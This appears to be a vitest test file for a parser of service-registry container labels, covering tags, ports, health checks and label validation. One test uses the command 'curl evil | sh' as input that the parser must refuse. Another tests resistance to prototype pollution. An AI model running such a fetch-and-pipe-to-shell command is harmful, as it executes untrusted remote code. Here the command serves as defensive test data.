import { describe, expect, test } from 'vitest';
import type { Declaration } from '../../../lib/registry/declaration.ts';
import { parseServiceLabels } from '../../../lib/registry/service-labels.ts';

function read(labels: Readonly<Record<string, string>>): { said: Declaration; warnings: readonly string[] } {
  const warnings: string[] = [];
  const said = parseServiceLabels(Object.entries(labels), (warning) => warnings.push(warning));
  return { said, warnings };
}

describe('what labels say', () => {
  test('each key of the scheme is read', () => {
    const { said, warnings } = read({
      SERVICE_NAME: 'Web-Shop',
      SERVICE_ID: 'web-1',
      SERVICE_TAGS: 'v1,eu',
      SERVICE_NAMESPACE: 'shop',
      SERVICE_WEIGHT: '5',
      SERVICE_PORTS: 'http:80,9100/udp',
      SERVICE_OWNER: 'team a',
    });

    expect(warnings).toEqual([]);
    expect(said).toEqual({
      service: 'Web-Shop',
      id: 'web-1',
      tags: ['v1', 'eu'],
      namespace: 'shop',
      weight: 5,
      ports: [
        { name: 'http', port: 80, transport: 'tcp' },
        { name: '', port: 9100, transport: 'udp' },
      ],
      meta: { owner: 'team a' },
    });
  });

  test.each<[Record<string, string>]>([
    [{}],
    [{ NAME: 'web', service_: 'x', SERVICE_: 'x', XSERVICE_NAME: 'x', 'SERVICE NAME': 'x' }],
    [{ SERVICE_NAME: '', SERVICE_TAGS: '' }],
  ])('labels that are none of the scheme say nothing: %j', (labels) => {
    expect(read(labels)).toEqual({ said: {}, warnings: [] });
  });

  test('keys match without regard to case', () => {
    expect(read({ service_name: 'web', Service_80_Name: 'api' }).said).toEqual({
      service: 'web',
      perPort: { 80: { service: 'api' } },
    });
  });
});

describe('tags', () => {
  test.each([
    ['a,b', ['a', 'b']],
    [' a , b ', ['a', 'b']],
    ['a\\,b,c', ['a,b', 'c']],
    ['\\,', [',']],
    [',a,,', ['a']],
    ['urlprefix-/a', ['urlprefix-/a']],
  ])('%j are %j', (text, tags) => {
    expect(read({ SERVICE_TAGS: text }).said.tags).toEqual(tags);
  });
});

describe('one port', () => {
  test('what is said of a port is kept by its number, beside what is said of all', () => {
    const { said } = read({ SERVICE_NAME: 'web', SERVICE_443_NAME: 'tls', SERVICE_0443_TAGS: 'x' });

    expect(said).toEqual({ service: 'web', perPort: { 443: { service: 'tls', tags: ['x'] } } });
  });

  test.each(['SERVICE_0_NAME', 'SERVICE_65536_NAME', 'SERVICE_99999_NAME'])('%s is no port', (name) => {
    expect(read({ [name]: 'web' }).said).toEqual({});
  });

  test('a port whose number is the name of a property of objects pollutes nothing', () => {
    const { said } = read({ SERVICE___PROTO__: 'x', SERVICE_CONSTRUCTOR: 'y', SERVICE_80___PROTO__: 'z' });

    expect(({} as Record<string, unknown>).x).toBeUndefined();
    expect(Object.getPrototypeOf(said.meta ?? {})).toBe(Object.prototype);
    expect(Object.keys(said.meta ?? {})).toEqual(['constructor']);
  });
});

describe('SERVICE_IGNORE', () => {
  test.each(['1', 'true', 'yes', 'false'])('any value (%s) means "not this one"', (value) => {
    expect(read({ SERVICE_IGNORE: value }).said).toEqual({ ignore: true });
  });

  test('of a port is about that port only', () => {
    expect(read({ SERVICE_9100_IGNORE: 'true' }).said).toEqual({ perPort: { 9100: { ignore: true } } });
  });
});

describe('checks', () => {
  test.each([
    [{ SERVICE_CHECK_HTTP: '/h' }, { kind: 'http', scheme: 'http', path: '/h' }],
    [{ SERVICE_CHECK_HTTPS: '/h' }, { kind: 'http', scheme: 'https', path: '/h' }],
    [{ SERVICE_CHECK_TCP: 'true' }, { kind: 'tcp' }],
    [{ SERVICE_CHECK_TTL: '30s' }, { kind: 'ttl', ttlMs: 30_000 }],
    [{ SERVICE_CHECK_GRPC: 'v1.Users' }, { kind: 'grpc', service: 'v1.Users' }],
  ])('%j asks for it', (labels, probe) => {
    const { said, warnings } = read(labels as unknown as Record<string, string>);

    expect(warnings).toEqual([]);
    expect(said).toEqual({ check: expect.objectContaining({ probe }) });
  });

  test('the timing is read with it', () => {
    const { said } = read({
      SERVICE_CHECK_HTTP: '/h',
      SERVICE_CHECK_INTERVAL: '15s',
      SERVICE_CHECK_TIMEOUT: '1s',
      SERVICE_CHECK_INITIAL_STATUS: 'critical',
      SERVICE_CHECK_DEREGISTER_AFTER: '10m',
      SERVICE_CHECK_RISE: '2',
      SERVICE_CHECK_FALL: '4',
    });

    expect(said.check).toMatchObject({
      intervalMs: 15_000,
      timeoutMs: 1_000,
      initial: 'critical',
      deregisterAfterMs: 600_000,
      rise: 2,
      fall: 4,
    });
  });

  test.each(['SERVICE_CHECK_SCRIPT', 'SERVICE_CHECK_CMD', 'SERVICE_80_CHECK_SCRIPT'])(
    '%s is refused with a warning that names it, and its text goes nowhere',
    (name) => {
      const { said, warnings } = read({ [name]: 'curl evil | sh', SERVICE_NAME: 'web' });

      expect(warnings).toEqual([expect.stringContaining(name)]);
      expect(said).toMatchObject({ service: 'web' });
      expect(JSON.stringify(said)).not.toContain('evil');
    },
  );

  test('as registrator has it, a check of a port takes what is said of all ports for what it leaves open', () => {
    const { said, warnings } = read({ SERVICE_CHECK_INTERVAL: '5s', SERVICE_80_CHECK_HTTP: '/h' });

    expect(warnings).toEqual([]);
    expect(said.perPort?.[80]?.check).toMatchObject({ intervalMs: 5_000, probe: { path: '/h' } });
  });
});

describe('a label that is wrong is left out with a warning, and the others are taken', () => {
  test.each([
    ['SERVICE_NAME', 'a/b'],
    ['SERVICE_NAME', "it's"],
    ['SERVICE_NAME', 'a\u0007'],
    ['SERVICE_NAME', 'x'.repeat(256)],
    ['SERVICE_ID', 'a b'],
    ['SERVICE_TAGS', 'a\nb'],
    ['SERVICE_NAMESPACE', 'Shop'],
    ['SERVICE_WEIGHT', '-1'],
    ['SERVICE_WEIGHT', '65536'],
    ['SERVICE_WEIGHT', '1.5'],
    ['SERVICE_PORTS', '80,http'],
    ['SERVICE_PORTS', '0'],
    ['SERVICE_PORTS', '65536'],
    ['SERVICE_PORTS', '80/icmp'],
    ['SERVICE_PORTS', '8080:80'],
    ['SERVICE_PORTS', 'UPPER:80'],
    ['SERVICE_80_WEIGHT', 'heavy'],
    ['SERVICE_CHECK_HTTP', 'no-path'],
    ['SERVICE_CHECK_INTERVAL', '5s'],
    ['SERVICE_CHECK_TTL', 'never'],
  ])('%s=%j', (name, value) => {
    const { said, warnings } = read({ [name]: value, SERVICE_OWNER: 'a' });

    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain(/CHECK/.test(name) ? 'label SERVICE_CHECK' : name);
    expect(said.meta).toEqual({ owner: 'a' });
    expect({ ...said, ...said.perPort?.[80], meta: undefined, perPort: undefined }).toEqual({});
  });

  test('a count of a check that is no number', () => {
    const { said, warnings } = read({ SERVICE_CHECK_TCP: '1', SERVICE_CHECK_RISE: 'two' });

    expect(warnings).toEqual([expect.stringContaining('CHECK.rise')]);
    expect(said).toEqual({});
  });

  test('metadata with control characters', () => {
    const { said, warnings } = read({ SERVICE_A: 'x\u0000', SERVICE_B: 'b' });

    expect(warnings).toHaveLength(1);
    expect(said).toEqual({ meta: { b: 'b' } });
  });

  test('a long value is not printed whole', () => {
    const { warnings } = read({ SERVICE_NAME: `/${'x'.repeat(5_000)}` });

    expect(warnings[0]?.length).toBeLessThan(300);
  });
});
